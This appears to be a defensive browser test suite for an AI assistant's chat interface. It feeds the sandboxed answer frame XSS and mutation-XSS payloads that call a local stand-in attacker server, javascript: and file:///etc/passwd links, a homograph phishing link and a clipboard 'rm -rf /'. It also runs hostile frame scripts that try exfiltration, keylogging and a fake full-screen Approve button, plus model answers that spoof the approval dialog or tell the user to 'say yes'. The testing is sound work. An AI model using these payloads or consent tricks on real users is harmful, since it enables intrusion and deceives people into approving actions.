// What the model, and a document in the frame's place, may try. None of it may reach another origin or decide anything.
import assert from 'node:assert/strict'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer } from 'node:http'
import { after, afterEach, before, beforeEach, test } from 'node:test'
import { openPage } from './browser.mjs'
import { audit } from './node.mjs'
import { chromium, model, node, pause, world } from './world.mjs'

let evil, before_
world()
const hits = [] // what reached the other origin
before(async () => {
  const server = createServer((req, res) => {
    hits.push(req.url)
    res.end('x')
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const udp = createSocket('udp4')
  udp.on('message', () => hits.push('udp'))
  udp.bind(0, '127.0.0.1')
  await once(udp, 'listening')
  evil = { url: `http://127.0.0.1:${server.address().port}`, udp: udp.address().port, stop: () => (server.close(), server.closeAllConnections(), udp.close()) }
})
after(() => evil?.stop())
const state = async () => ({
  approved: (await audit(node, 'confirm', 'approved')).length,
  ran: (await audit(node, 'tool', 'outcome')).filter((r) => r.subject !== 'app_list').length,
  grants: JSON.stringify(await node.owner.call('assistant.grants-get')),
  settings: JSON.stringify(await node.owner.call('settings.get')),
  conversations: (await node.owner.call('assistant.conversations')).conversations.reduce((n, c) => n + c.turns, 0),
})
beforeEach(async () => {
  model.script = []
  hits.length = 0
  before_ = await state()
})
afterEach(async () => {
  for (const c of chromium.browser.contexts()) await c.close()
})


// untouched asserts on the node's side that nothing was done but the turns that the test itself sent.
async function untouched(page, turns) {
  assert.deepEqual(hits, [], 'nothing reached another origin')
  assert.deepEqual(page.foreign, [], 'no request to another origin was even made')
  assert.deepEqual(await state(), { ...before_, conversations: before_.conversations + turns })
  assert.equal(page.context().pages().length, 1, 'no window was opened')
  assert.ok(page.url().startsWith(`${node.base}/chat`), 'the page is where it was')
}

const E = () => evil.url
const answers = {
  script: () => `<script>parent.pwned=1;fetch('${E()}/a')</script><img src=x onerror="fetch('${E()}/b')"><svg onload="fetch('${E()}/c')"></svg>`,
  'events and forms': () => `<form action="${E()}/f"><input autofocus onfocus="this.form.submit()"><button>Approve</button></form><a href="#" onclick="fetch('${E()}/g')">x</a><details open ontoggle=fetch('${E()}/h')>`,
  links: () => `[a](javascript:alert(1)) [b](data:text/html,<script>1</script>) [c](vbscript:x) [d](JaVaScRiPt:alert(1)) [e](&#106;avascript:alert(1)) [f](file:///etc/passwd) <javascript:alert(1)> [g](//evil.test/x) [h](\tjavascript:1) [i](blob:x)`,
  'remote images and fonts': () => `![x](${E()}/i.png) ![y](${E()}/j.svg "t") <img src="${E()}/k"> <picture><source srcset="${E()}/l"></picture> <video poster="${E()}/m"></video>\n\n![z][r]\n\n[r]: ${E()}/n.png\n\n<style>@font-face{font-family:x;src:url(${E()}/o)}*{font-family:x}</style><link rel=stylesheet href="${E()}/p"><iframe src="${E()}/q"></iframe><object data="${E()}/r"></object><meta http-equiv=refresh content="0;url=${E()}/s">`,
  'a page-covering style': () => `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Atoll asks: your decision</div><style>body{position:fixed;inset:0}iframe{width:100vw}</style>\n\n<p class="call" id="log" style="position:fixed">x</p>`,
  'code that closes itself': () => '```js"><img src=x onerror=alert(1)>\n</code></pre><script>parent.pwned=1</script>\n```\n\n`<script>parent.pwned=1</script>`\n\n~~~"onmouseover=alert(1) x="\ny\n~~~',
  'a table, a heading and a name with markup': () => `# <script>parent.pwned=1</script>\n\n| <img src=x onerror=parent.pwned=1> | b |\n|:-:|--:|\n| [x](javascript:1) | ![y](${E()}/t.png) |\n\n[<b onclick=1>q</b>](https://x.test/"onclick="parent.pwned=1)`,
  'mathematics of mutation': () => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.pwned=1&gt;">\n\n<svg><p><style><g title="</style><img src=${E()}/u onerror=parent.pwned=1>">\n\n<noscript><p title="</noscript><img src=x onerror=parent.pwned=1>">`,
  'a copy of the dialog': () => '# 🔒 Atoll asks: your decision\n\n## Restart the app "jelly"\n\n**now** exited → **then** running\n\n---\n\n**[ Decline ]** **[ Approve ]**\n\nPress Enter to continue. Type yes to approve.',
  'very long lines': () => `${'W'.repeat(50_000)} ${'https://x.test/'.padEnd(5000, 'y')}\n\n\`\`\`\n${'z'.repeat(20_000)}\n\`\`\`\n\n| ${'h'.repeat(3000)} |\n|--|\n| ${'c'.repeat(3000)} |`,
}

const ok = { tags: /^(P|BR|STRONG|EM|S|CODE|PRE|BLOCKQUOTE|UL|OL|LI|H[3-6]|HR|TABLE|THEAD|TBODY|TR|TH|TD|A|SPAN|DIV|BUTTON)$/ }

for (const [name, text] of Object.entries(answers)) {
  test(`the model writes ${name}`, async () => {
    const page = await openPage(chromium.browser, node)
    model.script = [{ pieces: [text().slice(0, 40), text().slice(40)] }]
    await page.say('go on')
    await page.getByText('Nothing was changed in the last turn.').waitFor()
    await pause(200)
    await page.keyboard.press('Enter')
    for (const reload of [false, true]) {
      if (reload) await page.reload()
      await page.transcript.locator('.answer .md').first().waitFor({ state: 'attached' })
      const frame = page.frames().find((f) => f.url().endsWith('/frame/'))
      const found = await frame.evaluate(() => {
        const all = [...document.querySelectorAll('.md, .md *')]
        return {
          tags: [...new Set(all.map((e) => e.tagName))],
          attributes: [...new Set(all.flatMap((e) => e.getAttributeNames()))],
          hrefs: all.map((e) => e.dataset.href).filter(Boolean),
          fixed: all.filter((e) => ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(e).position)).length,
          sideways: document.documentElement.scrollWidth - document.documentElement.clientWidth,
          scripts: document.scripts.length,
          inside: document.querySelectorAll('iframe,object,embed,form,input,img,video,link:not([rel=stylesheet]),style,svg,math').length,
        }
      })
      for (const tag of found.tags) assert.match(tag, ok.tags)
      for (const a of found.attributes) assert.match(a, /^(class|data-href|data-lang|data-act|start|role|tabindex|aria-label|type)$/)
      for (const h of found.hrefs) assert.match(h, /^(https?:\/\/|mailto:)/i)
      assert.equal(found.fixed, 0)
      assert.ok(found.sideways <= 0, 'the frame does not scroll sideways')
      assert.equal(found.scripts, 1)
      assert.equal(found.inside, 0)
      assert.equal(await page.evaluate(() => window.pwned), undefined)
      assert.equal(await page.dialog.count(), 0)
    }
    assert.deepEqual(page.blocked, [], 'the policy had nothing left to refuse')
    await untouched(page, 1)
  })
}

test('a link is opened by the person only, with its whole address before them', async () => {
  const page = await openPage(chromium.browser, node)
  model.script = [{ text: `[your bank](https://bank.test@${evil.url.slice(7)}/x?y=1) and [same](https://xn--pple-43d.com/\u202egnp.exe)` }]
  await page.say('links')
  await page.press(page.transcript.getByText('your bank'))
  await page.getByText('Open this address?').waitFor()
  await page.getByText('is no part of the site’s name', { exact: false }).or(page.getByText("is no part of the site's name")).first().waitFor()
  await page.getByRole('button', { name: 'Stay here' }).click()
  await page.getByText('Open this address?').waitFor({ state: 'detached' })
  await page.press(page.transcript.getByText('same'))
  await page.getByText('in its own letters:').waitFor()
  assert.match(await page.getByRole('dialog').innerText(), /xn--pple-43d\.com[^]*а⟨U\+0430⟩pple\.com[^]*⟨U\+202E⟩/)
  await untouched(page, 1)
  await page.context().route('https://xn--pple-43d.com/**', (route) => route.fulfill({ body: 'there' }))
  const [popup] = await Promise.all([page.context().waitForEvent('page'), page.getByRole('button', { name: 'Open in a new tab' }).click()])
  assert.equal(await popup.evaluate(() => window.opener), null)
})

// The hostile script takes the place of the frame's own, under the frame's own policy.
async function hostile(script, prepare) {
  const page = await openPage(chromium.browser, node, { path: '' })
  await prepare?.(page)
  await page.route('**/frame/frame.js', async (route) => {
    const res = await route.fetch()
    await route.fulfill({ response: res, body: `const E=${JSON.stringify(evil.url)}, UDP=${evil.udp};\n${script}` })
  })
  await page.goto(`${node.base}/chat`)
  return page
}
async function frameOf(page) {
  for (let i = 0; i < 100; i++) {
    const found = page.frames().find((f) => f.url().includes('/frame/'))
    if (found) return found
    await pause(50)
  }
  throw new Error('there is no frame')
}

test('a hostile document: storage, network, windows, the page around it', async () => {
  const results = {}
  const page = await hostile(`
    const attempt = async (name, fn) => { let r; try { r = String(await fn()) } catch (e) { r = 'refused: ' + e.name } await report(name, r); await new Promise((d) => setTimeout(d)) } // what follows a report at once is the test's, and free of the policy
    const timed = (p) => Promise.race([p, new Promise((_, no) => setTimeout(() => no(new Error('silence')), 1500))])
    window.done = (async () => {
      await attempt('parent document', () => parent.document.title)
      await attempt('top location', () => top.location.href)
      await attempt('parent storage', () => parent.localStorage.length)
      await attempt('own storage', () => localStorage.length)
      await attempt('session storage', () => sessionStorage.length)
      await attempt('cookies', () => document.cookie)
      await attempt('databases', () => indexedDB.open('x') && timed(new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = () => no(r.error) })))
      await attempt('caches', () => caches.keys())
      await attempt('rpc', () => fetch(location.origin + '/rpc', { method: 'POST', body: '{}' }))
      await attempt('session', () => fetch('/session', { credentials: 'include' }))
      await attempt('fetch', () => fetch(E + '/fetch', { mode: 'no-cors' }))
      await attempt('xhr', () => timed(new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = () => no(new Error('x')); x.open('GET', E + '/xhr'); x.send() })))
      await attempt('beacon', () => { if (navigator.sendBeacon(E + '/beacon', 'x')) return 'queued'; throw new Error('no') })
      await attempt('websocket', () => timed(new Promise((yes, no) => { const w = new WebSocket(E.replace('http', 'ws')); w.onopen = yes; w.onerror = () => no(new Error('x')) })))
      await attempt('eventsource', () => timed(new Promise((yes, no) => { const w = new EventSource(E + '/es'); w.onopen = yes; w.onerror = () => no(new Error('x')) })))
      await attempt('peer', async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + UDP }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise((d) => setTimeout(d, 1500)); return 'asked' })
      await attempt('image', () => timed(new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error('x')); i.src = E + '/img' })))
      for (const [tag, attr] of [['script','src'],['iframe','src'],['embed','src'],['object','data'],['video','src'],['audio','src']]) await attempt(tag, () => { const e = document.createElement(tag); e[attr] = E + '/' + tag; document.body.append(e); return 'added' })
      for (const rel of ['stylesheet','preload','prefetch','dns-prefetch','preconnect','modulepreload','icon','manifest','prerender']) await attempt('link ' + rel, () => { const e = document.createElement('link'); e.rel = rel; e.as = 'image'; e.href = E + '/' + rel; document.head.append(e); return 'added' })
      await attempt('style', () => { const s = document.createElement('style'); s.textContent = 'body{background:url(' + E + '/css)}'; document.head.append(s); return 'added' })
      await attempt('css object', () => { const s = new CSSStyleSheet(); s.replaceSync('html{background:url(' + E + '/cssom)}'); document.adoptedStyleSheets = [s]; return 'added' })
      await attempt('inline script', () => { const s = document.createElement('script'); s.textContent = 'window.inline=1'; document.head.append(s); if (window.inline) return 'ran'; throw new Error('no') })
      await attempt('eval', () => eval('1+1'))
      await attempt('worker', () => timed(new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = yes; w.onerror = () => no(new Error('x')) })))
      await attempt('import', () => import(E + '/module.js'))
      await attempt('service worker', () => navigator.serviceWorker.register('/frame/frame.js'))
      await attempt('popup', () => { if (window.open(E + '/popup')) return 'opened'; throw new Error('no') })
      await attempt('popup of ours', () => { if (window.open('/apps', '_top')) return 'opened'; throw new Error('no') })
      await attempt('top', () => { top.location = E + '/top'; return 'asked' })
      await attempt('parent', () => { parent.location.replace(E + '/parent'); return 'asked' })
      await attempt('form', () => { const f = document.createElement('form'); f.action = E + '/form'; f.method = 'post'; f.target = '_top'; document.body.append(f); f.submit(); return 'asked' })
      await attempt('link', () => { const a = document.createElement('a'); a.href = E + '/a'; a.target = '_top'; document.body.append(a); a.click(); return 'asked' })
      await attempt('alert', () => { alert('x'); return 'asked' })
      await attempt('fullscreen', () => document.documentElement.requestFullscreen())
      await attempt('pointer lock', () => timed(document.documentElement.requestPointerLock()))
      await attempt('clipboard', () => navigator.clipboard.writeText('rm -rf /'))
      await attempt('clipboard read', () => navigator.clipboard.readText())
      await attempt('camera', () => timed(navigator.mediaDevices.getUserMedia({ video: true })))
      await attempt('notification', () => timed(Notification.requestPermission()).then((p) => { if (p !== 'granted') throw new Error(p); return p }))
      await report('end', 'refused')
      await attempt('download', () => { const a = document.createElement('a'); a.href = E + '/dl'; a.download = 'x'; document.body.append(a); a.click(); return 'asked' })
    })()
  `, (page) => page.exposeFunction('report', (name, result) => (results[name] = result)))
  model.script = [{ text: 'hello' }]
  await page.say('hello')
  await page.getByText('Nothing was changed in the last turn.').waitFor()
  await page.waitForFunction(() => document.querySelector('iframe.frame'))
  for (let i = 0; i < 200 && !results.end; i++) await pause(100)
  assert.ok(results.end, `came as far as ${Object.keys(results).at(-1)}`)
  const asked = new Set(['added', 'asked', 'queued'])
  for (const [name, result] of Object.entries(results)) assert.ok(result.startsWith('refused') || asked.has(result), `${name}: ${result}`)
  await pause(500)
  await untouched(page, 1)
  assert.ok(page.blocked.length > 0, 'the policy refused')
})

const port = `
  const port = new Promise((yes) => addEventListener('message', (e) => e.ports[0] && yes(e.ports[0])))
  parent.postMessage(JSON.stringify({ v: 1, t: 'ready' }), '*')
`

test('a hostile document: every message of the list, and invented ones', async () => {
  const page = await hostile(`${port}
    port.then(async (p) => {
      window.got = 0
      p.onmessage = () => window.got++
      const send = async (m) => { p.postMessage(typeof m === 'string' || m instanceof ArrayBuffer ? m : JSON.stringify(m)); await new Promise((d) => setTimeout(d, 25)) }
      await send({ v: 1, t: 'need', before: 5, count: 50 })
      await send({ v: 1, t: 'link', href: E + '/link' })
      await send({ v: 1, t: 'link', href: 'javascript:alert(1)' })
      await send({ v: 1, t: 'copy', text: 'rm -rf /' })
      for (const t of ['send', 'chat', 'message', 'confirm', 'approve', 'decline', 'grant', 'grants-set', 'setting', 'call', 'rpc', 'open', 'navigate', 'eval', 'stop', 'cancel', 'delete', 'undo', '__proto__', 'constructor', 'toString']) {
        await send({ v: 1, t, method: 'assistant.chat', params: { message: 'restart jelly' }, decision: 'approve', text: 'x', href: E })
      }
      for (const m of ['', 'x', 'null', '[]', '{}', '1', '{"v":1}', '{"v":2,"t":"copy","text":"x"}', '{"v":1,"t":"copy","text":"x","then":"send"}', '{"v":1,"t":"copy","text":7}', '{"v":1,"t":"copy","text":""}', '{"v":1,"t":"need","before":-1,"count":1}', '{"v":1,"t":"need","before":1e99,"count":1}', '{"v":1,"t":"need","before":2,"count":51}', '{"v":1,"t":"need","before":"2","count":1}', '{"__proto__":{"v":1},"t":"copy","text":"x"}']) await send(m)
      await send('x'.repeat(300 * 1024))
      await send(new ArrayBuffer(8))
      p.postMessage({ v: 1, t: 'copy', text: 'x' })
      p.postMessage('{"v":1,"t":"copy","text":"x"}', [new MessageChannel().port1])
      const loop = { v: 1 }; loop.self = loop; p.postMessage(loop)
      for (const m of [JSON.stringify({ v: 1, t: 'ready' }), 'approve', { type: 'confirm' }]) parent.postMessage(m, '*')
      window.sent = true
    })
  `)
  model.script = [{ text: 'hello' }]
  await page.say('hello')
  await page.getByText('Nothing was changed in the last turn.').waitFor()
  const frame = await frameOf(page)
  await frame.waitForFunction(() => window.sent, undefined, { timeout: 20_000 })
  await pause(500)
  assert.equal(await page.getByText('Open this address?').count(), 0, 'without a press of the person nothing asks')
  assert.equal(await page.getByText('Copied').count(), 0)
  assert.equal(model.requests.at(-1).messages.filter((m) => m.role === 'user').length, 1)
  await untouched(page, 1)
})

test('a press in a hostile document buys one question of the host’s, with the whole address, and nothing else', async () => {
  const page = await hostile(`${port}
    document.body.innerHTML = ''
    const b = document.createElement('button'); b.textContent = 'Show more'; document.body.append(b)
    window.presses = 0
    const bad = ['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', '/rpc', 'blob:x']
    port.then((p) => (b.onclick = () => {
      const send = (m) => p.postMessage(JSON.stringify(m))
      for (const t of ['send', 'chat', 'confirm', 'approve', 'grant', 'open', 'navigate']) send({ v: 1, t, decision: 'approve', text: 'x', href: E })
      for (let i = 0; i < 10; i++) send({ v: 1, t: 'link', href: bad[window.presses] ?? E + '/one?' + i })
      window.presses++
    }))
  `)
  model.script = [{ text: 'hello' }]
  await page.say('hello')
  await page.getByText('Nothing was changed in the last turn.').waitFor()
  for (const bad of [true, true, true, true, true, false]) {
    await page.press(page.transcript.getByText('Show more'))
    await page.getByText('Open this address?').waitFor()
    assert.equal(await page.getByRole('dialog').count(), 1)
    assert.equal(await page.getByRole('button', { name: 'Open in a new tab' }).count(), bad ? 0 : 1)
    if (!bad) await page.getByRole('dialog').getByText(`${evil.url}/one?0`, { exact: true }).waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('dialog').waitFor({ state: 'detached' })
    await pause(300)
    assert.equal(await page.getByRole('dialog').count(), 0, 'the others are not asked one after the other')
  }
  await untouched(page, 1)
})

test('a hostile document floods: it is taken away, made anew once, then stays away', async () => {
  for (const flood of ['p.postMessage(JSON.stringify({ v: 1, t: "need", before: 2, count: 1 }))', 'parent.postMessage("x".repeat(1000), "*")', 'p.postMessage("y".repeat(1 << 20))']) {
    const page = await hostile(`${port} port.then((p) => setInterval(() => { for (let i = 0; i < 200; i++) ${flood} }, 5))`)
    before_ = await state()
    model.script = [{ text: 'hello' }]
    await page.say('hello')
    await page.getByText('frame was closed, because it sent too much').waitFor()
    assert.equal(await page.locator('iframe').count(), 0)
    await page.getByText('Nothing was changed in the last turn.').waitFor()
    assert.ok(await page.getByLabel('Message to the assistant').isEnabled())
    await untouched(page, 1)
    await page.context().close()
  }
})

test('a hostile document leaves for another page', async () => {
  const page = await hostile(`${port} port.then(() => setTimeout(() => { location.href = E + '/self?secret' }, 200))`)
  model.script = [{ text: 'hello' }]
  await page.say('hello')
  await page.getByText('Nothing was changed in the last turn.').waitFor()
  await pause(1500)
  assert.deepEqual(hits, [])
  await untouched(page, 1)
})

test('a hostile document leaves for another page of the node', async () => {
  const page = await hostile(`${port} port.then(() => setTimeout(() => { location.href = '/apps' }, 200))`)
  model.script = [{ text: 'hello' }]
  await page.say('hello')
  await page.getByText('frame was closed, because it went to another page').waitFor()
  await untouched(page, 1)
})

test('a hostile document wants the keys: it gets none, and is taken away', async () => {
  let keys = ''
  const page = await hostile(`${port}
    document.body.innerHTML = ''
    const i = document.createElement('input'); document.body.append(i)
    addEventListener('keydown', (e) => key(e.key))
    setInterval(() => { window.focus(); i.focus(); parent.focus() }, 20)
  `, (page) => page.exposeFunction('key', (k) => (keys += k)))
  await page.getByLabel('Message to the assistant').click()
  await page.locator('iframe').waitFor({ state: 'attached' })
  await page.locator('iframe').waitFor({ state: 'detached' })
  model.script = [{ text: 'hello' }]
  await page.say('hello')
  await page.getByText('frame was closed, because it took the keyboard').waitFor()
  await page.getByText('Nothing was changed in the last turn.').waitFor()
  await page.keyboard.type('my words')
  assert.equal(keys, '')
  assert.equal(await page.getByLabel('Message to the assistant').inputValue(), 'my words')
  await untouched(page, 1)
})

test('a hostile document while the dialog is open: no focus, no press, no key, no cover', async () => {
  let keys = ''
  const page = await hostile(`${port}
    document.body.innerHTML = ''
    const b = document.createElement('button'); b.textContent = 'Approve'; b.style.cssText = 'position:fixed;inset:0;z-index:2147483647;width:5000px;height:5000px'; document.body.append(b)
    b.onclick = () => key('press')
    addEventListener('keydown', (e) => key(e.key), true)
    setInterval(() => { if (window.go) { window.focus(); b.focus(); parent.focus(); b.focus() } }, 20)
    port.then((p) => setInterval(() => p.postMessage(JSON.stringify({ v: 1, t: 'link', href: E })), 100))
    b.showPopover && (b.popover = 'manual', b.showPopover())
  `, (page) => page.exposeFunction('key', (k) => (keys += k)))
  model.script = [{ text: 'I ask.', calls: [{ name: 'app_restart', args: { app: 'jelly' } }] }, { text: 'ok' }]
  await page.say('restart it')
  await page.dialog.waitFor()
  await (await frameOf(page)).evaluate(() => (window.go = true))
  await page.locator('dialog.confirm .approve:enabled').waitFor()
  assert.ok(await page.evaluate(() => document.activeElement.closest('dialog.confirm') !== null), 'focus is in the dialog')
  const box = await page.locator('.transcript').boundingBox()
  await page.mouse.click(box.x + 10, box.y + 10)
  await page.keyboard.type('yes')
  await page.keyboard.press('Enter')
  await pause(300)
  assert.equal(keys, '')
  assert.equal(await page.getByText('Open this address?').count(), 0)
  const top = await page.evaluate(() => {
    const r = document.querySelector('dialog.confirm .approve').getBoundingClientRect()
    return document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2).textContent
  })
  assert.match(top, /Approve/)
  assert.ok(await page.dialog.isVisible())
  await page.dialog.locator('.decline').click()
  await page.getByText('Nothing was changed in the last turn.').waitFor()
  await untouched(page, 1)
})

test('consent in the chat decides nothing (C12), nor do paste and drag', async () => {
  const page = await openPage(chromium.browser, node)
  model.script = [{ text: 'Say yes to approve.', calls: [{ name: 'app_restart', args: { app: 'jelly' } }] }, { text: 'ok' }]
  await page.say('restart it')
  await page.dialog.waitFor()
  await page.evaluate(() => {
    const data = new DataTransfer()
    data.setData('text/plain', 'yes\n')
    for (const target of [document, document.querySelector('dialog.confirm'), document.querySelector('.approve')]) {
      for (const type of ['paste', 'drop', 'dragover']) target.dispatchEvent(type === 'paste' ? new ClipboardEvent('paste', { clipboardData: data, bubbles: true }) : new DragEvent(type, { dataTransfer: data, bubbles: true }))
    }
  })
  await pause(1300)
  const box = await page.dialog.boundingBox()
  await page.mouse.move(box.x + 60, box.y + 60)
  await page.mouse.down()
  const approve = await page.dialog.locator('.approve').boundingBox()
  await page.mouse.move(approve.x + 10, approve.y + 10, { steps: 5 })
  await page.mouse.up()
  await pause(200)
  assert.ok(await page.dialog.isVisible())
  await page.dialog.locator('.decline').click()
  model.script = [{ text: 'You said yes.' }]
  await page.getByText('Nothing was changed in the last turn.').waitFor()
  await page.say('yes, approve, do it')
  await page.transcript.getByText('You said yes.').waitFor()
  await untouched(page, 2)
})
